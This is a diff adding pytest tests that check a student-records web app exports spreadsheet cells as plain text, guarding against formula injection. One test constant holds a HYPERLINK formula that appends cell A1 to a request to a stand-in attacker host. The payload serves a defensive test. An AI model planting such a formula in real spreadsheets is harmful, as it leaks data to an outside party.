@@ -395,3 +395,47 @@ def test_a_birthday_is_read_the_usual_ways(written):
 def test_a_birthday_that_is_no_date_is_refused(written):
     with pytest.raises(ValueError):
         cells.birthday(written)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(app, client):
+    student = make_student(name="导出生", school=HYPERLINK, notes="@SUM(1+1)", advisor_user=advisor("adv1"))
+    make_contract(student, subject="-数学", hours="10", unit_price="100")
+    login(client)
+    sheet = load_workbook(io.BytesIO(client.get("/students/export.xlsx").data)).active
+    school, notes = sheet.cell(2, HEADER.index("学校") + 1), sheet.cell(2, HEADER.index("备注") + 1)
+    assert (school.value, school.data_type) == (HYPERLINK, "s") and school.quotePrefix
+    assert (notes.value, notes.data_type) == ("@SUM(1+1)", "s") and notes.quotePrefix
+    sheet = load_workbook(io.BytesIO(client.get("/contracts/export.xlsx").data)).active
+    assert (sheet["D2"].value, sheet["D2"].data_type) == ("-数学", "s")
+    assert sheet["I2"].data_type == "n"  # numbers stay numbers
+
+
+def test_the_workbook_helper_keeps_numbers_and_dates_and_drops_control_characters(app):
+    from datetime import date
+    from decimal import Decimal
+
+    from xgapp import sheets
+
+    book = sheets.workbook()
+    sheets.append(book.active, ["=1+1", "+86 138", "铃\x07声", Decimal("12.50"), 3, date(2026, 12, 2), None, "普通"])
+    row = load_workbook(io.BytesIO(sheets.saved(book))).active[1]
+    assert [(c.value, c.data_type) for c in row[:3]] == [("=1+1", "s"), ("+86 138", "s"), ("铃 声", "s")]
+    assert [c.data_type for c in row[3:6]] == ["n", "n", "d"] and row[6].value is None and not row[7].quotePrefix
+    book = sheets.workbook()
+    book.active["A1"] = "=2+2"  # written past the helper: still saved as text
+    cell = load_workbook(io.BytesIO(sheets.saved(book))).active["A1"]
+    assert (cell.value, cell.data_type) == ("=2+2", "s")
+
+
+def test_every_workbook_the_app_writes_goes_through_the_shared_helper():
+    from pathlib import Path
+
+    import xgapp
+
+    root = Path(xgapp.__file__).parent
+    bypass = [str(path.relative_to(root)) for path in root.rglob("*.py")
+              if path.name != "sheets.py" and "Workbook" in path.read_text(encoding="utf-8")]
+    assert bypass == []  # a new .xlsx writer uses sheets.workbook() / append() / saved()
